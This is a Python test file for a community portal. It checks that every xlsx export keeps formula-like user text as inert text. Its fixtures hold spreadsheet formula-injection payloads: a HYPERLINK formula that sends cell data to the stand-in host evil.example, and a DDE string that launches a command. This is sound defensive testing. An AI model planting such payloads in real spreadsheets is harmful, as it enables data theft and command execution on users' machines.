"""Every xlsx the portal hands out keeps what people typed as text: a name, a leave
reason or an inspection note that starts like a formula never becomes a live one
in the office's Excel (portal/spreadsheet.py)."""
from datetime import UTC, date, datetime
from io import BytesIO

import openpyxl
from sqlalchemy import select

from portal.extensions import db
from portal.inspections import bulletins, conduct
from portal.leave import rules as leave_rules
from portal.leave.models import LeaveType
from portal.matters import rules as matters
from portal.spreadsheet import safe, unsafe
from tests.conftest import Auth, account

HOSTILE = '=HYPERLINK("http://evil.example/?"&B3,"点我")'
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "＝1+1", "\t=1+1")



def hostile_data(app) -> dict[str, int]:
    """A worker named like a formula, a leave reason and an inspection note like one, a 通报."""
    with app.app_context():
        worker = account("fuyuan_worker01")
        worker.person.name = HOSTILE
        account("fuyuan_worker02").person.name = OTHERS[0]
        fuyuan = worker.person.community
        personal = db.session.scalar(select(LeaveType.id).where(LeaveType.code == "personal"))
        leave = leave_rules.submit(worker, worker.person, leave_rules.LeaveInput(
            personal, date(2026, 11, 26), "am", date(2026, 11, 26), "pm", HOSTILE, OTHERS[1], ""), app.config,
            now=datetime(2026, 11, 24, 1, 0, tzinfo=UTC))
        leave_rules.decide(account("fuyuan_secretary"), leave, True, OTHERS[2])
        inspector = account("inspector")
        inspection = conduct.start(inspector, fuyuan)
        for index, item in enumerate(conduct.sheet(inspection).items):
            conduct.answer(inspector, inspection.id, str(item.id), None, "fail" if index < 3 else "pass",
                           HOSTILE if index < 3 else "")
        conduct.submit(inspector, inspection.id)
        bulletin = bulletins.publish(inspector, "2026-11", None)
        grid = str(worker.person.grid_id)
        matters.register(worker, fuyuan, matters.MatterInput(grid, OTHERS[3], HOSTILE, "1", "3", OTHERS[4]),
                         now=datetime(2026, 11, 20, 1, 0, tzinfo=UTC))
        db.session.commit()
        return {"community": fuyuan.id, "street": fuyuan.street_id, "bulletin": bulletin.id}


def export_paths(ids: dict[str, int]) -> list[str]:
    return [
        f"/attendance/sheet.xlsx?community={ids['community']}&month=2026-11",
        f"/attendance/sheet.xlsx?street={ids['street']}&month=2026-11",
        f"/leave/communities/{ids['community']}/export.xlsx?start=2026-11-01&end=2026-11-30",
        f"/assessment/streets/{ids['street']}/export.xlsx?period=2026-Q4",
        f"/assessment/communities/{ids['community']}/export.xlsx?period=2026-Q4",
        f"/inspections/bulletins/{ids['bulletin']}/bulletin.xlsx",
        "/admin/roster/template.xlsx",
        "/admin/roster/export.xlsx",
        f"/admin/roster/export.xlsx?community={ids['community']}",
        f"/leave/communities/{ids['community']}/entitlements.xlsx?year=2026",
        f"/matters/communities/{ids['community']}/export.xlsx?month=2026-11",
        f"/responsibility/coverage/streets/{ids['street']}/coverage.xlsx?month=2026-11",
        "/responsibility/coverage/district/coverage.xlsx?month=2026-11",
    ]


def test_every_export_route_is_checked_here(app):
    exports = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".xlsx")}
    checked = {path.split("?")[0] for path in export_paths({"community": 0, "street": 0, "bulletin": 0})}
    normalised = {rule.replace("<int(max=2147483647):community_id>", "0").replace("<int:community_id>", "0").replace("<int:street_id>", "0")
                  .replace("<int:bulletin_id>", "0") for rule in exports}
    assert normalised == checked, "a new xlsx export must be added to export_paths"


def test_no_cell_of_any_export_is_a_formula(app):
    ids = hostile_data(app)
    auth = Auth(app.test_client())
    auth.login("admin")
    seen_hostile = 0
    for path in export_paths(ids):
        response = auth.client.get(path)
        assert response.status_code == 200, path
        book = openpyxl.load_workbook(BytesIO(response.data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and "evil.example" in cell.value:
                        seen_hostile += 1
                        assert cell.value == "'" + HOSTILE, (path, cell.coordinate, cell.value)
    assert seen_hostile >= 9  # the name in both sheets, the leave, the assessment, the 通报's note, the
    # district's and the community's 花名册, the 年休假一览


def test_text_that_looks_like_a_formula_is_kept_as_text_and_plain_values_are_untouched():
    for value in (HOSTILE, *OTHERS):
        assert safe(value) == "'" + value
        assert unsafe(safe(value)) == value  # a roster read back has its text as it was
    for value in ("王巴特尔", "第1网格", "—", 12, 3.5, None, "3-2-301", "'引号开头"):
        assert safe(value) == value and unsafe(value) == value
